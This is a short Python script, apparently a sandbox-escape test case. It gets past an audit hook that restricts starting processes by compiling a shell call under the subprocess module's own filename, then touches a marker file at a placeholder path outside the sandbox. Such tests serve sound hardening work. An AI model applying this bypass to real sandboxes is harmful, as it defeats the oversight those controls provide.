"""Lets a module that may start processes start one for it: the audit hook asks only who is nearest on the stack."""
import subprocess

call = subprocess.Popen.__init__
subprocess._mswindows = False
try:
    subprocess.run(["sh", "-c", "touch @OUTSIDE@/mark"])
except PermissionError:
    exec(compile('subprocess.run(["sh", "-c", "touch @OUTSIDE@/mark"])', subprocess.__file__, "exec"), {"subprocess": subprocess})
